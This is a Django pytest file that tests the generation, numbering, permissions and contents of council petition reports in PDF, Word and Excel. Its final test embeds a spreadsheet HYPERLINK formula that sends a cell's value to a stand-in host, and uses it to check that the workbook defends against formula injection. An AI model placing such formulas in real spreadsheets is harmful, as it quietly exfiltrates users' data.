"""Reports on petitions: the round's consolidated report and the results report, rendered by the
task to PDF, Word and Excel, read back and held against the database and against Decree 30; the
pages that ask for them, issue them and download them, and who is refused."""
import datetime
import io
import re
import subprocess
import sys
from pathlib import Path
from zoneinfo import ZoneInfo

import pdfplumber
import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation
from docx import Document
from openpyxl import load_workbook

from config.celery import app as celery_app
from delegations.models import AgencyLevel, Notification
from petitions import reports, services
from petitions.models import AnswerOutcome, Petition, PetitionField, Report, ReportKind, ReportStatus
from plans.models import (
    ContactPlan,
    ContactRound,
    DocumentNumber,
    PlanStatus,
    RoundKind,
    Sitting,
    SittingKind,
)
from sessions.models import MeetingStatus
from tests.factories import AgencyFactory, DelegateGroupFactory, TermFactory
from tests.sessions.builders import make_session
from tests.shared import shared_dir

HANOI = ZoneInfo("Asia/Ho_Chi_Minh")
DECREE30_CHECK = shared_dir() / "tools" / "decree30_check.py"
SIGNER = "Nguyễn Văn Hòa"

# (marker, level, fields, group key, meeting key): the marker is a word found in the printed text.
# Local ones are created first, so that listing them after the central ones is the report's doing.
SPECS = [
    ("XAMOT", AgencyLevel.COMMUNE, ["Giao thông"], "a", 1),
    ("XAHAI", AgencyLevel.COMMUNE, ["Y tế"], "b", 2),
    ("TINHMOT", AgencyLevel.PROVINCE, ["Y tế"], "a", 1),
    ("TINHHAI", AgencyLevel.PROVINCE, ["Giao thông", "Y tế"], "a", 1),
    ("TINHBA", AgencyLevel.PROVINCE, ["Đất đai"], "b", 2),
    ("TRUNGUONGMOT", AgencyLevel.CENTRAL, ["Giao thông"], "a", 1),
    ("TRUNGUONGHAI", AgencyLevel.CENTRAL, ["Đất đai"], "b", 2),
    ("CHUAPHANLOAI", "", [], "b", 2),
]
DUPLICATES = ["TRUNGLAPMOT", "TRUNGLAPHAI"]
VOTERS = {1: 80, 2: 45}


def pdf_text(data):
    with pdfplumber.open(io.BytesIO(data)) as pdf:
        return "\n".join(page.extract_text() or "" for page in pdf.pages)


def read(field):
    with field.open("rb") as handle:
        return handle.read()


def run_decree30_check(tmp_path, data, *options):
    assert DECREE30_CHECK.is_file(), f"{DECREE30_CHECK} is missing"
    path = tmp_path / "report.pdf"
    path.write_bytes(data)
    return subprocess.run([sys.executable, str(DECREE30_CHECK), str(path), *options],
                          capture_output=True, text=True, timeout=180)


@pytest.fixture
def english():
    """Messages matched in English whatever the interface's default language (Vietnamese)."""
    with translation.override("en"):
        yield


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return Path(settings.MEDIA_ROOT)


@pytest.fixture
def eager(media):
    """The render task runs in the test at commit, never through the broker."""
    conf = celery_app.conf
    saved = conf.task_always_eager, conf.task_eager_propagates
    conf.task_always_eager = conf.task_eager_propagates = True
    try:
        yield
    finally:
        conf.task_always_eager, conf.task_eager_propagates = saved


@pytest.fixture
def seeded(world, setup, media, time_machine):
    """A round of the province council with two held meetings (80 and 45 voters), one planned, and
    eight main petitions of known fields, levels and groups, two duplicates merged into the first
    central one; another round of the same council and another council's round, each with a petition
    that must never appear."""
    time_machine.move_to(datetime.datetime(2026, 12, 2, 9, tzinfo=HANOI))
    council, office = world.council, world.users["office"]
    fields = {name: PetitionField.objects.create(council=council, name=name, order=index)
              for index, name in enumerate(["Giao thông", "Y tế", "Đất đai", "Giáo dục"])}
    agencies = {AgencyLevel.CENTRAL: AgencyFactory(council=council, name="Bộ Giao thông vận tải",
                                                   level=AgencyLevel.CENTRAL),
                AgencyLevel.PROVINCE: world.agency,
                AgencyLevel.COMMUNE: AgencyFactory(council=council, name="UBND xã Kiêm Tân",
                                                   level=AgencyLevel.COMMUNE)}
    sessions = {1: make_session(world, setup, day=10, status=MeetingStatus.HELD),
                2: make_session(world, setup, day=12, group=world.group_b, delegates=[setup["other_delegate"]],
                                status=MeetingStatus.HELD)}
    make_session(world, setup, day=26, hour=14)  # planned, not held: not counted
    for key, voters in VOTERS.items():
        sessions[key].voters_present = voters
        sessions[key].save(update_fields=["voters_present"])
    groups = {"a": world.group_a, "b": world.group_b}
    petitions = {}
    for marker, level, names, group, meeting in SPECS:
        petition = services.petition_create(
            council=council, user=office, session=sessions[meeting], group=groups[group],
            text=f"Cử tri phản ánh nội dung {marker} cần được giải quyết sớm.",
            summary=f"Đề nghị giải quyết {marker}.", fields=[fields[n] for n in names],
            voters=[{"name": f"Cử tri {marker}"}])
        if level:
            services.petitions_classify(petitions=[petition], user=office, agency=agencies[level])
        petitions[marker] = Petition.objects.get(pk=petition.pk)
    duplicates = [services.petition_create(council=council, user=office, session=sessions[2],
                                           text=f"Cử tri nêu lại {marker}.", summary=f"{marker}.",
                                           fields=[fields["Giao thông"]], voters=[{"name": f"Cử tri {marker}"}])
                  for marker in DUPLICATES]
    services.petitions_merge(main=petitions["TRUNGUONGMOT"], duplicates=duplicates, user=office)
    later_plan = ContactPlan.objects.create(council=council, year=2027, subject="Kế hoạch 2027")
    later_round = ContactRound.objects.create(plan=later_plan, kind=RoundKind.THEMATIC, topic="Đất đai",
                                              starts_on=datetime.date(2027, 3, 1), ends_on=datetime.date(2027, 3, 20))
    services.petition_create(council=council, user=office, round=later_round, text="Kiến nghị DOTKHAC.")
    other_plan = ContactPlan.objects.create(council=world.other_council, year=2026, subject="Kế hoạch Lạng Sơn",
                                            status=PlanStatus.ISSUED, number=3, issued_on=datetime.date(2026, 10, 1))
    other_round = ContactRound.objects.create(plan=other_plan, kind=RoundKind.BEFORE_SITTING,
                                              starts_on=datetime.date(2026, 11, 2), ends_on=datetime.date(2026, 12, 1))
    other_group = DelegateGroupFactory(council=world.other_council,
                                       term=TermFactory(council=world.other_council, name="Khóa XVII"))
    services.petition_create(council=world.other_council, user=world.users["other_council"], round=other_round,
                             group=other_group, text="Kiến nghị LANGSON về đường.", fields=[])
    return {"round": setup["round"], "petitions": petitions, "fields": fields, "agencies": agencies,
            "later_round": later_round, "other_round": other_round}


def request_round_report(world, seeded, **kwargs):
    return reports.report_request(user=world.users["office"], council=world.council, kind=ReportKind.ROUND,
                                  round=seeded["round"], signer_name=SIGNER, **kwargs)


@pytest.fixture
def round_report(world, seeded):
    report = request_round_report(world, seeded)
    assert reports.report_render(report_id=report.pk) is True
    report.refresh_from_db()
    return report


# ------------------------------------------------------------------------------- the round report

def test_the_round_report_prints_the_counts_the_database_holds(world, seeded, round_report):
    assert round_report.status == ReportStatus.READY and round_report.is_ready
    text = pdf_text(read(round_report.pdf))
    lines = text.splitlines()
    rnd = seeded["round"]
    main = Petition.objects.filter(council=world.council, round=rnd, merged_into__isnull=True)
    everything = Petition.objects.filter(council=world.council, round=rnd)
    assert round_report.petition_count == main.count() == 8
    assert f"Số ý kiến, kiến nghị đã tiếp nhận: {everything.count()}." in text
    assert f"Số kiến nghị trùng lặp đã hợp nhất: {everything.exclude(merged_into=None).count()}." in text
    assert f"Số kiến nghị sau tổng hợp: {main.count()}." in text
    assert f"Số hội nghị đã tổ chức: {rnd.sessions.filter(status=MeetingStatus.HELD).count()}." in text
    assert f"Số lượt cử tri tham dự: {sum(VOTERS.values())}." in text

    def row(label, count):
        return any(re.fullmatch(rf"(\d+ )?{re.escape(label)} {count} [\d,]+%", line.strip()) for line in lines)

    for petition_field in seeded["fields"].values():
        count = main.filter(fields=petition_field).count()
        if count:
            assert row(petition_field.name, count), (petition_field.name, count, text)
        else:  # a field of the list without petitions in the round is not printed
            assert petition_field.name not in text
    assert row("Chưa phân loại lĩnh vực", main.filter(fields=None).count())
    for level, label in ((AgencyLevel.CENTRAL, "Trung ương"), (AgencyLevel.PROVINCE, "Tỉnh"),
                         (AgencyLevel.COMMUNE, "Xã"), ("", "Chưa xác định")):
        assert row(label, main.filter(level=level).count()), (label, text)
    for group in (world.group_a, world.group_b):
        assert row(group.name, main.filter(group=group).count()), (group.name, text)
    assert sum(1 for line in lines if re.fullmatch(r"Tổng cộng 8 100,0%", line.strip())) == 2  # levels, groups


def test_central_level_petitions_come_before_local_ones(round_report):
    text = pdf_text(read(round_report.pdf))
    position = {marker: text.index(marker) for marker, *_rest in SPECS}
    central = [position[m] for m, level, *_rest in SPECS if level == AgencyLevel.CENTRAL]
    province = [position[m] for m, level, *_rest in SPECS if level == AgencyLevel.PROVINCE]
    commune = [position[m] for m, level, *_rest in SPECS if level == AgencyLevel.COMMUNE]
    assert text.index("Kiến nghị thuộc thẩm quyền Trung ương") < min(central)
    assert max(central) < text.index("Kiến nghị thuộc thẩm quyền địa phương") < min(province)
    assert max(province) < min(commune) < max(commune) < position["CHUAPHANLOAI"]
    # Each petition is numbered, with who raised it and its agency.
    flat = " ".join(text.split())
    assert re.search(r"1\. Đề nghị giải quyết TRUNGUONGMOT \(Tổ đại biểu số 1; 3 cử tri, 2 hội nghị; "
                     r"lĩnh vực: Giao thông; cơ quan giải quyết: Bộ Giao thông vận tải\)", flat), flat


def test_merged_duplicates_and_other_rounds_and_councils_never_appear(round_report):
    text = pdf_text(read(round_report.pdf))
    sheet = load_workbook(io.BytesIO(read(round_report.xlsx)))["Kiến nghị"]
    cells = " ".join(str(c) for row in sheet.iter_rows(values_only=True) for c in row if c is not None)
    for absent in (*DUPLICATES, "DOTKHAC", "LANGSON"):
        assert absent not in text and absent not in cells
    # The main petition keeps its duplicates' voters: 3 voters at 2 meetings.
    assert "Đề nghị giải quyết TRUNGUONGMOT (Tổ đại biểu số 1; 3 cử tri, 2 hội nghị;" in " ".join(text.split())


def test_the_excel_sheet_has_one_row_per_main_petition(world, seeded, round_report):
    workbook = load_workbook(io.BytesIO(read(round_report.xlsx)))
    assert workbook.sheetnames == ["Kiến nghị", "Số liệu"]
    rows = list(workbook["Kiến nghị"].iter_rows(values_only=True))
    header, body = rows[0], rows[1:]
    assert header == ("STT", "Mã", "Tổ đại biểu", "Xã/phường", "Lĩnh vực", "Thẩm quyền", "Cơ quan giải quyết",
                      "Tóm tắt", "Nội dung", "Số cử tri", "Số hội nghị", "Trạng thái")
    main = Petition.objects.filter(council=world.council, round=seeded["round"], merged_into__isnull=True)
    assert len(body) == main.count()
    assert sorted(r[1] for r in body) == sorted(main.values_list("public_code", flat=True))
    assert [r[0] for r in body] == list(range(1, len(body) + 1))
    by_code = {r[1]: r for r in body}
    central = seeded["petitions"]["TRUNGUONGMOT"]
    central.refresh_from_db()
    assert by_code[central.public_code][4:7] == ("Giao thông", "Trung ương", "Bộ Giao thông vận tải")
    assert by_code[central.public_code][9:11] == (central.voter_count, central.meeting_count) == (3, 2)
    assert by_code[seeded["petitions"]["TINHHAI"].public_code][4] == "Giao thông; Y tế"
    assert [r[5] for r in body][:2] == ["Trung ương", "Trung ương"]  # the PDF's order
    counts = list(workbook["Số liệu"].iter_rows(values_only=True))
    assert ("", "Số kiến nghị sau tổng hợp", 8, "") in [tuple("" if c is None else c for c in r) for r in counts]
    # Counts and shares are numbers with their formats (issue 14, finding 7): 25% is 0.25 shown "0.0%".
    assert (1, "Trung ương", 2, 0.25) in counts
    share = next(row for row in workbook["Số liệu"].iter_rows(min_row=2) if row[1].value == "Trung ương")[3]
    assert (share.data_type, share.number_format) == ("n", "0.0%")


def test_the_word_copy_has_the_title_the_subject_and_the_tables(round_report):
    document = Document(io.BytesIO(read(round_report.docx)))
    texts = [p.text for p in document.paragraphs]
    assert "BÁO CÁO" in texts
    assert "Tổng hợp ý kiến, kiến nghị cử tri" in texts
    assert any(t.startswith("III. NỘI DUNG Ý KIẾN") for t in texts)
    # The header table and the footer table, and the three count tables between them.
    tables = document.tables
    assert len(tables) == 5
    level_table = [[cell.text for cell in row.cells] for row in tables[2].rows]
    assert level_table[0] == ["STT", "Thẩm quyền", "Số kiến nghị", "Tỷ lệ"]
    assert ["1", "Trung ương", "2", "25,0%"] in level_table


def test_a_draft_report_passes_the_decree30_check(tmp_path, round_report):
    data = read(round_report.pdf)
    text = pdf_text(data)
    assert re.search(r"Số:\s+/BC-HĐND", text)  # a draft: no number yet
    result = run_decree30_check(tmp_path, data, "--draft")
    assert result.returncode == 0, result.stdout + result.stderr
    assert "15 passed, 0 failed" in result.stdout


def test_issuing_takes_the_next_bc_number_and_passes_the_decree30_check(tmp_path, world, seeded, round_report,
                                                                        time_machine, english):
    time_machine.move_to(datetime.datetime(2026, 12, 4, 9, tzinfo=HANOI))
    DocumentNumber.objects.create(council=world.council, year=2026, type_code="BC", number=4)
    DocumentNumber.objects.create(council=world.council, year=2026, type_code="KH", number=9)  # another register
    reports.report_issue(report=round_report, user=world.users["office"])
    round_report.refresh_from_db()
    assert (round_report.number, round_report.issued_on) == (5, datetime.date(2026, 12, 4))
    assert round_report.status == ReportStatus.PENDING and not round_report.is_ready
    assert reports.report_render(report_id=round_report.pk) is True
    round_report.refresh_from_db()
    data = read(round_report.pdf)
    flat = " ".join(pdf_text(data).split())
    assert "Số: 05/BC-HĐND" in flat and "Bắc Ninh, ngày 04 tháng 12 năm 2026" in flat
    result = run_decree30_check(tmp_path, data)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "'Số: 05/BC-HĐND'" in result.stdout
    # Issued once: it is never issued again nor rendered again.
    with pytest.raises(ValidationError, match="already issued"):
        reports.report_issue(report=round_report, user=world.users["office"])
    with pytest.raises(ValidationError, match="not rendered again"):
        reports.report_refresh(report=round_report, user=world.users["office"])


def test_a_number_already_used_is_refused_and_the_standing_committee_does_not_issue(world, seeded, round_report,
                                                                                    english):
    DocumentNumber.objects.create(council=world.council, year=2026, type_code="BC", number=7)
    with pytest.raises(ValidationError, match="already used"):
        reports.report_issue(report=round_report, user=world.users["office"], number=7)
    with pytest.raises(PermissionDenied, match="Only the office"):
        reports.report_issue(report=round_report, user=world.users["standing"])
    round_report.refresh_from_db()
    assert round_report.number is None and round_report.is_ready


def test_rendering_is_idempotent(world, seeded, round_report):
    names = (round_report.pdf.name, round_report.docx.name, round_report.xlsx.name)
    assert reports.report_render(report_id=round_report.pk) is False
    round_report.refresh_from_db()
    assert (round_report.pdf.name, round_report.docx.name, round_report.xlsx.name) == names
    assert reports.report_render(report_id=999999) is False


def test_a_stale_revision_is_not_written(world, seeded, monkeypatch):
    """A newer request (refresh) replaced the revision while the worker typeset: its result is dropped."""
    report = request_round_report(world, seeded)
    real_build = reports.report_build

    def build_then_bump(*args, **kwargs):
        built = real_build(*args, **kwargs)
        Report.objects.filter(pk=report.pk).update(revision=report.revision + 1)
        return built

    monkeypatch.setattr(reports, "report_build", build_then_bump)
    assert reports.report_render(report_id=report.pk) is False
    monkeypatch.undo()
    report.refresh_from_db()
    assert report.status == ReportStatus.PENDING and not report.pdf
    assert reports.report_render(report_id=report.pk) is True


def test_a_failure_is_recorded_and_can_be_retried(world, seeded, monkeypatch):
    report = request_round_report(world, seeded)
    def broken(built):
        raise RuntimeError("no fonts")

    monkeypatch.setattr(reports, "render_files", broken)
    assert reports.report_render(report_id=report.pk) is False
    report.refresh_from_db()
    assert report.status == ReportStatus.FAILED and "no fonts" in report.error
    monkeypatch.undo()
    reports.report_refresh(report=report, user=world.users["standing"])
    assert reports.report_render(report_id=report.pk) is True
    report.refresh_from_db()
    assert report.status == ReportStatus.READY and report.error == ""


def test_the_data_is_read_in_the_same_few_queries_whatever_the_number_of_petitions(world, seeded):
    report = request_round_report(world, seeded)
    report = reports.report_load(report.pk)
    with CaptureQueriesContext(connection) as before:
        reports.report_build(report)
    for index in range(6):
        services.petition_create(council=world.council, user=world.users["office"], round=seeded["round"],
                                 group=world.group_a, text=f"Thêm {index}", fields=list(seeded["fields"].values()))
    with CaptureQueriesContext(connection) as after:
        built = reports.report_build(report)
    assert built.petition_count == 14
    assert len(after.captured_queries) == len(before.captured_queries) <= 4


# ------------------------------------------------------------------------------ the results report

@pytest.fixture
def answered(world, seeded, time_machine):
    """Forwarded on 03/12/2026 (answers due 01/02/2027): TRUNGUONGMOT resolved, TINHMOT being resolved
    by 15/01/2027, XAMOT explained; TRUNGUONGHAI, TINHHAI, XAHAI not answered. TINHBA forwarded on
    20/02/2027 (due 21/04/2027). A sitting opens on 05/03/2027; TINHBA's answer, and a petition of the
    other round forwarded on 10/03/2027, come after it."""
    p = seeded["petitions"]
    office, agency_user = world.users["office"], world.users["agency"]
    time_machine.move_to(datetime.datetime(2026, 12, 3, 9, tzinfo=HANOI))
    first = [p[m] for m in ("TRUNGUONGMOT", "TRUNGUONGHAI", "TINHMOT", "TINHHAI", "XAMOT", "XAHAI")]
    services.petitions_forward(petitions=[Petition.objects.get(pk=x.pk) for x in first], user=office)
    time_machine.move_to(datetime.datetime(2026, 12, 10, 9, tzinfo=HANOI))
    for marker, outcome in (("TRUNGUONGMOT", AnswerOutcome.RESOLVED), ("TINHMOT", AnswerOutcome.IN_PROGRESS),
                            ("XAMOT", AnswerOutcome.EXPLAINED)):
        petition = Petition.objects.get(pk=p[marker].pk)
        services.answer_record(petition=petition, user=agency_user, agency=petition.agency, outcome=outcome,
                               text=f"Trả lời {marker}: đã xem xét.",
                               roadmap="Lộ trình" if outcome == AnswerOutcome.IN_PROGRESS else "",
                               promised_on=datetime.date(2027, 1, 15) if outcome == AnswerOutcome.IN_PROGRESS else None)
    time_machine.move_to(datetime.datetime(2027, 2, 20, 9, tzinfo=HANOI))
    services.petitions_forward(petitions=[Petition.objects.get(pk=p["TINHBA"].pk)], user=office)
    sitting = Sitting.objects.create(council=world.council, term=world.term, number=3,
                                     kind=SittingKind.REGULAR_MID_YEAR, opens_on=datetime.date(2027, 3, 5),
                                     closes_on=datetime.date(2027, 3, 6))
    time_machine.move_to(datetime.datetime(2027, 3, 10, 9, tzinfo=HANOI))
    later = Petition.objects.get(round=seeded["later_round"])
    services.petitions_classify(petitions=[later], user=office, agency=world.agency,
                                fields=[seeded["fields"]["Đất đai"]])
    services.petitions_forward(petitions=[Petition.objects.get(pk=later.pk)], user=office)
    time_machine.move_to(datetime.datetime(2027, 3, 12, 9, tzinfo=HANOI))
    return {"sitting": sitting}


def results_pdf(world, **kwargs):
    report = reports.report_request(user=world.users["standing"], council=world.council, kind=ReportKind.RESULTS,
                                    signer_name=SIGNER, **kwargs)
    assert reports.report_render(report_id=report.pk) is True
    report.refresh_from_db()
    return report, pdf_text(read(report.pdf))


def test_the_results_report_lists_every_forwarded_petition_with_the_overdue_ones_first(tmp_path, world, seeded,
                                                                                       answered):
    report, text = results_pdf(world, sitting=answered["sitting"])
    flat = " ".join(text.split())
    forwarded = ["TRUNGUONGMOT", "TRUNGUONGHAI", "TINHMOT", "TINHHAI", "XAMOT", "XAHAI", "TINHBA"]
    for marker in forwarded:
        assert marker in flat
    for absent in ("DOTKHAC", "CHUAPHANLOAI", "LANGSON", *DUPLICATES):  # after the sitting, not forwarded, others
        assert absent not in flat
    assert report.petition_count == len(forwarded)
    # As of 12/03/2027: the three not answered by 01/02/2027 and the one promised for 15/01/2027 are overdue.
    overdue = ["TRUNGUONGHAI", "TINHHAI", "XAHAI", "TINHMOT"]
    part_two, part_three = flat.index("II. KIẾN NGHỊ QUÁ HẠN"), flat.index("III. KẾT QUẢ GIẢI QUYẾT")
    for marker in overdue:
        assert part_two < flat.index(marker) < part_three, marker
    for marker in ("TRUNGUONGMOT", "XAMOT", "TINHBA"):
        assert flat.index(marker) > part_three, marker
    assert "Số kiến nghị quá hạn: 4." in flat
    for label, count in (("Đã giải quyết xong", 1), ("Đang giải quyết", 1), ("Đã giải trình, cung cấp thông tin", 1),
                         ("Chưa trả lời", 4)):
        assert re.search(rf"\d {re.escape(label)} {count} [\d,]+%", flat), (label, flat)
    assert re.search(r"TRUNGUONGHAI \(cơ quan: Bộ Giao thông vận tải; chuyển ngày 03/12/2026; kết quả: chưa trả lời; "
                     r"hạn trả lời 01/02/2027; quá hạn 39 ngày\)", flat), flat
    assert "hẹn giải quyết xong 15/01/2027; quá hạn 56 ngày" in flat
    assert "Trả lời: Trả lời TRUNGUONGMOT: đã xem xét." in flat
    workbook = load_workbook(io.BytesIO(read(report.xlsx)))
    # By agency, worst first: forwarded, resolved, being resolved, explained, not answered, overdue.
    by_agency = list(workbook["Số liệu"].iter_rows(values_only=True))[1:]
    assert by_agency == [(1, "Sở Xây dựng", 3, 0, 1, 0, 2, 2), (2, "Bộ Giao thông vận tải", 2, 1, 0, 0, 1, 1),
                         (3, "UBND xã Kiêm Tân", 2, 0, 0, 1, 1, 1), (None, "Tổng cộng", 7, 1, 1, 1, 4, 4)]
    sheet = workbook["Kiến nghị"]
    rows = list(sheet.iter_rows(values_only=True))[1:]
    assert len(rows) == len(forwarded)
    assert [r[13] for r in rows[:4]] == ["Có"] * 4 and not any(r[13] for r in rows[4:])
    result = run_decree30_check(tmp_path, read(report.pdf), "--draft")
    assert result.returncode == 0, result.stdout + result.stderr


def test_a_results_report_for_a_round_covers_that_rounds_forwarded_petitions(world, seeded, answered):
    report, text = results_pdf(world, round=seeded["later_round"])
    flat = " ".join(text.split())
    assert "DOTKHAC" in flat and "TRUNGUONGMOT" not in flat
    assert report.petition_count == 1


# ------------------------------------------------------------------------------------------ pages

def test_office_asks_for_a_report_and_the_worker_renders_it_after_commit(world, seeded, eager, client_for,
                                                                          django_capture_on_commit_callbacks):
    client = client_for(world.users["office"])
    assert client.get(reverse("petitions:report_list")).status_code == 200
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        response = client.post(reverse("petitions:report_list"), {
            "kind": "round", "round": seeded["round"].pk, "signer_name": SIGNER,
            "signing_lines": "TM. THƯỜNG TRỰC HĐND\nKT. CHỦ TỊCH\nPHÓ CHỦ TỊCH"})
    assert response.status_code == 302
    # The render, then (registered by the render, eager here) the e-mail telling the requester it is ready.
    assert len(callbacks) == 2
    report = Report.objects.get()
    assert Notification.objects.get().recipient == world.users["office"]
    assert response.url == reverse("petitions:report_detail", args=[report.pk])
    assert (report.council, report.kind, report.requested_by) == (world.council, "round", world.users["office"])
    assert report.status == ReportStatus.READY and report.number is None
    assert report.recipients.splitlines()[-1] == "Lưu: VT."
    printed = pdf_text(read(report.pdf))
    assert "KT. CHỦ TỊCH" in printed and "PHÓ CHỦ TỊCH" in printed and SIGNER in printed
    page = client.get(reverse("petitions:report_detail", args=[report.pk])).content.decode()
    for fmt in ("pdf", "docx", "xlsx"):
        assert reverse("petitions:report_download", args=[report.pk, fmt]) in page
    assert "hx-trigger" not in page  # ready: no more polling
    download = client.get(reverse("petitions:report_download", args=[report.pk, "xlsx"]))
    assert download.status_code == 200
    assert download["Content-Disposition"].startswith("attachment")
    assert load_workbook(io.BytesIO(b"".join(download.streaming_content))).sheetnames == ["Kiến nghị", "Số liệu"]
    # The next request starts from this signer.
    form = client.get(reverse("petitions:report_list")).context["form"]
    assert (form.fields["signer_name"].initial, form.fields["signing_lines"].initial) == \
        (SIGNER, "TM. THƯỜNG TRỰC HĐND\nKT. CHỦ TỊCH\nPHÓ CHỦ TỊCH")


def test_a_pending_report_page_polls_until_ready(world, seeded, client_for):
    report = request_round_report(world, seeded)  # in a test transaction: the task never runs
    client = client_for(world.users["standing"])
    fragment = client.get(reverse("petitions:report_files", args=[report.pk])).content.decode()
    assert 'hx-trigger="every 2s"' in fragment and reverse("petitions:report_files", args=[report.pk]) in fragment
    assert "download-pdf" not in fragment
    assert client.get(reverse("petitions:report_download", args=[report.pk, "pdf"])).status_code == 404
    reports.report_render(report_id=report.pk)
    fragment = client.get(reverse("petitions:report_files", args=[report.pk])).content.decode()
    assert "hx-trigger" not in fragment and "download-pdf" in fragment


def test_the_request_form_refuses_a_round_report_without_a_round_and_another_councils_round(world, seeded,
                                                                                          client_for):
    client = client_for(world.users["office"])
    assert client.post(reverse("petitions:report_list"), {"kind": "round"}).status_code == 400
    response = client.post(reverse("petitions:report_list"), {"kind": "round", "round": seeded["other_round"].pk})
    assert response.status_code == 400
    response = client.post(reverse("petitions:report_list"), {"kind": "results", "round": seeded["round"].pk,
                                                              "sitting": ""})
    assert response.status_code == 302  # a results report for a round is fine
    assert not Report.objects.filter(kind="round").exists()


@pytest.mark.parametrize("role, status", [("delegate", 403), ("group_leader", 403), ("agency", 403)])
def test_who_may_not_ask_for_a_report(world, seeded, client_for, role, status):
    client = client_for(world.users[role])
    url = reverse("petitions:report_list")
    assert client.get(url).status_code == status
    assert client.post(url, {"kind": "round", "round": seeded["round"].pk}).status_code == status
    assert not Report.objects.exists()


def test_another_council_cannot_ask_for_this_councils_report(world, seeded, client_for, english):
    client = client_for(world.users["other_council"])
    assert client.post(reverse("petitions:report_list"), {"kind": "round", "round": seeded["round"].pk,
                                                          "council": world.council.pk}).status_code == 400
    with pytest.raises(PermissionDenied, match="Chỉ Văn phòng và Thường trực"):
        reports.report_request(user=world.users["other_council"], council=world.council, kind=ReportKind.ROUND,
                               round=seeded["round"])
    assert not Report.objects.exists()


@pytest.mark.parametrize("role, status", [
    ("office", 200), ("standing", 200), ("delegate", 403), ("group_leader", 403), ("agency", 403),
    ("other_council", 404), ("commune_office", 404), (None, 302)])
def test_who_may_download(world, round_report, client_for, role, status):
    client = client_for(world.users[role] if role else None)
    for name in ("report_detail", "report_files"):
        assert client.get(reverse(f"petitions:{name}", args=[round_report.pk])).status_code == status
    for fmt in ("pdf", "docx", "xlsx"):
        response = client.get(reverse("petitions:report_download", args=[round_report.pk, fmt]))
        assert response.status_code == status, (role, fmt)
    # "png" is a kind of file the product knows but not one a report holds: not found, never an error.
    for fmt in ("csv", "png"):
        assert client.get(reverse("petitions:report_download", args=[round_report.pk, fmt])).status_code == \
            (404 if status == 200 else status)


def test_the_province_office_reads_its_communes_reports_but_does_not_issue_them(world, media, client_for):
    plan = ContactPlan.objects.create(council=world.commune_council, year=2026, subject="Kế hoạch xã")
    rnd = ContactRound.objects.create(plan=plan, kind=RoundKind.BEFORE_SITTING, starts_on=datetime.date(2026, 11, 2),
                                      ends_on=datetime.date(2026, 11, 20))
    report = reports.report_request(user=world.users["commune_office"], council=world.commune_council,
                                    kind=ReportKind.ROUND, round=rnd, signer_name=SIGNER)
    reports.report_render(report_id=report.pk)
    client = client_for(world.users["office"])
    assert client.get(reverse("petitions:report_download", args=[report.pk, "pdf"])).status_code == 200
    assert client.post(reverse("petitions:report_issue", args=[report.pk])).status_code == 403
    assert client.post(reverse("petitions:report_refresh", args=[report.pk])).status_code == 403
    report.refresh_from_db()
    assert report.number is None and report.revision == 1


def test_issue_from_the_page_by_office_only(world, round_report, client_for):
    standing = client_for(world.users["standing"])
    assert standing.post(reverse("petitions:report_issue", args=[round_report.pk])).status_code == 403
    office = client_for(world.users["office"])
    response = office.post(reverse("petitions:report_issue", args=[round_report.pk]),
                           {"issued_on": "2026-12-05", "number": "", "confirmed": "1"})
    assert response.status_code == 302
    round_report.refresh_from_db()
    assert (round_report.number, round_report.issued_on) == (1, datetime.date(2026, 12, 5))
    assert DocumentNumber.objects.filter(council=world.council, type_code="BC", year=2026, number=1).exists()


def test_the_list_reads_in_the_same_queries_whatever_the_number_of_reports(world, seeded, client_for):
    client = client_for(world.users["office"])

    def queries_for(count):
        for _index in range(count - Report.objects.count()):
            request_round_report(world, seeded)
        with CaptureQueriesContext(connection) as captured:
            response = client.get(reverse("petitions:report_list"))
        assert response.status_code == 200
        return len(captured.captured_queries)

    assert queries_for(3) == queries_for(25)  # 25 is more than a page


def test_a_petition_text_like_a_formula_is_text_in_the_report_workbook(world, seeded):
    import zipfile

    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"xem")'
    services.petition_create(council=world.council, user=world.users["office"], round=seeded["round"],
                             text=formula, summary="@" + formula, voters=[{"name": "Cử tri CÔNGTHỨC"}])
    report = request_round_report(world, seeded)
    assert reports.report_render(report_id=report.pk) is True
    report.refresh_from_db()
    data = read(report.xlsx)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, name
    sheet = load_workbook(io.BytesIO(data))["Kiến nghị"]
    header = [c.value for c in sheet[1]]
    cells = [row[header.index("Nội dung")] for row in sheet.iter_rows(min_row=2) if row[header.index("Nội dung")].value == formula]
    assert len(cells) == 1 and cells[0].data_type == "s"
    summary = cells[0].parent.cell(row=cells[0].row, column=header.index("Tóm tắt") + 1)
    assert (summary.value, summary.data_type) == ("@" + formula, "s")
